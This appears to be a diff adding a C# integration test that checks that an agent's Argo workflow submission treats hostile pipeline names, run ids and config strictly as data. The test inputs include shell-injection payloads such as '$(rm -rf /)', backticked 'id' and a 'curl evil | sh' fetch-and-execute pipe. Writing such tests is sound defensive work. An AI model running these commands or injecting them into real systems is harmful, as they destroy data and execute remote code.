@@ -1,0 +1,99 @@
+using System.Text.Json;
+using System.Text.Json.Nodes;
+using System.Text.RegularExpressions;
+using Agent.Core.Argo;
+using Agent.Core.Protocol;
+using Agent.IntegrationTests.ControlPlane;
+using Agent.IntegrationTests.Infrastructure;
+using Agent.Sandbox.ControlPlane.Api;
+
+namespace Agent.IntegrationTests.Abuse;
+
+/// <summary>
+/// Shell metacharacters, env-var syntax, newlines, quotes and Argo template syntax in the pipeline FQN, name, run id and
+/// config reach Argo only as data: the command is a fixed exec array (no shell), the config is the <c>config</c> env
+/// value byte for byte, the workflow name and labels are valid and derived (hashed or sanitized), and user text lands
+/// only in the env values and annotations that carry it. Argo does expand <c>{{…}}</c> inside env values; see the report.
+/// </summary>
+public sealed partial class InjectionTests
+{
+    private const string Hostile = "$(rm -rf /) `id` ${HOME} $HOME; echo pwned && curl evil | sh\n'\"\\ {{workflow.name}} {{=sprig.trim('x')}} %s \u00e9";
+
+    private static readonly string[] ContainerTemplates = ["ingestion", "exit-handler"];
+
+    [Fact]
+    public async Task PipelineRun_HostileNamesRunIdAndConfig_ReachArgoOnlyAsDataInAFixedExecCommand()
+    {
+        await using var rig = await AgentRig.StartAsync(LinkSignals.NewAgentId("injection"));
+        var fqn = "svc.\"db;" + Hostile + "\".pipe " + Hostile;
+        var name = "pipe " + Hostile;
+        var runId = "run $(rm -rf /) `id` ${HOME}; echo pwned '\" {{workflow.name}}";
+        var config = "source:\r\n  type: mysql\n  query: \"" + Hostile + "\"\n\tpassword: secret:x\n# " + Hostile + "\n";
+
+        var answer = ReliableMessages.Result(await rig.ControlPlane.SendRequestAsync(
+            rig.Agent.AgentId,
+            MessageTypes.PipelineRun,
+            RequestPayloads.PipelineRun(fqn, name: name, config: JsonSerializer.SerializeToElement(config), runId: runId),
+            rig.Cancellation));
+
+        Assert.True(answer.Ok, $"{answer.Code} {answer.Reason}");
+        var workflow = Assert.Single(rig.Emulator.ListWorkflows(AgentRig.Namespace));
+        var templates = workflow["spec"]!["templates"]!.AsArray().Select(t => t!.AsObject()).ToList();
+        Assert.Equal(ContainerTemplates, templates.Select(t => (string?)t["name"]));
+        foreach (var template in templates)
+        {
+            // No script, no args, no shell: the command is the agent's own exec array.
+            Assert.Null(template["script"]);
+            var container = template["container"]!.AsObject();
+            Assert.Null(container["args"]);
+            var command = container["command"]!.AsArray().Select(c => (string?)c).ToList();
+            Assert.Equal((string?)template["name"] == "ingestion" ? ["python", "main.py"] : ["python", "exit_handler.py"], command);
+            var env = container["env"]!.AsArray().ToDictionary(e => (string)e!["name"]!, e => (string?)e!["value"], StringComparer.Ordinal);
+            Assert.Equal(config, env["config"]);
+            Assert.Equal(fqn, env["ingestionPipelineFQN"]);
+            Assert.Equal(runId, env["pipelineRunId"]);
+        }
+
+        var metadata = workflow["metadata"]!.AsObject();
+        var workflowName = (string)metadata["name"]!;
+        Assert.Matches(DnsLabel(), workflowName);
+        Assert.True(workflowName.Length <= 63, workflowName);
+        Assert.Equal("om-pipe-rm-rf-id-home-h-" + LabelValues.Hash(runId, 32), workflowName);
+        var labels = metadata["labels"]!.AsObject().Concat(workflow["spec"]!["podMetadata"]!["labels"]!.AsObject()).ToList();
+        Assert.All(labels, label => Assert.True(LabelValues.IsValidLabelValue((string)label.Value!), $"{label.Key}={label.Value}"));
+        Assert.Equal(fqn, (string?)metadata["annotations"]![WorkflowLabels.PipelineFqnAnnotation]);
+        Assert.Equal(runId, (string?)metadata["annotations"]![WorkflowLabels.RunIdAnnotation]);
+
+        // User text appears only where it is data: three env values of the two containers, and the annotations.
+        var userTextAt = StringLeaves(workflow, "$").Where(leaf => leaf.Value.Contains("{{workflow.name}}", StringComparison.Ordinal)).Select(leaf => leaf.Path).ToList();
+        Assert.All(userTextAt, path => Assert.Matches(@"^\$\.(spec\.templates\[[01]\]\.container\.env\[[0-2]\]\.value|metadata\.annotations\.[^.]+)$", path));
+        Assert.Equal(3 * ContainerTemplates.Length, userTextAt.Count(path => path.StartsWith("$.spec", StringComparison.Ordinal)));
+    }
+
+    [Theory]
+    [InlineData("run\n$(id)")]
+    [InlineData("run\u0000`id`")]
+    [InlineData("run\r\n{{workflow.name}}")]
+    public async Task PipelineRun_RunIdWithControlCharacters_Answered400AndCreatesNoWorkflow(string runId)
+    {
+        await using var rig = await AgentRig.StartAsync(LinkSignals.NewAgentId("injection-run-id"));
+
+        var answer = ReliableMessages.Result(await rig.ControlPlane.SendRequestAsync(
+            rig.Agent.AgentId, MessageTypes.PipelineRun, RequestPayloads.PipelineRun(AgentRig.PipelineFqn, runId: runId), rig.Cancellation));
+
+        Assert.Equal(400, answer.Code);
+        Assert.Contains("runId", answer.Reason, StringComparison.Ordinal);
+        Assert.Empty(rig.Emulator.ListWorkflows());
+    }
+
+    private static IEnumerable<(string Path, string Value)> StringLeaves(JsonNode? node, string path) => node switch
+    {
+        JsonObject obj => obj.SelectMany(pair => StringLeaves(pair.Value, $"{path}.{pair.Key}")),
+        JsonArray array => array.SelectMany((item, index) => StringLeaves(item, $"{path}[{index}]")),
+        JsonValue value when value.TryGetValue<string>(out var text) => [(path, text)],
+        _ => [],
+    };
+
+    [GeneratedRegex("^[a-z0-9]([-a-z0-9]*[a-z0-9])?$")]
+    private static partial Regex DnsLabel();
+}
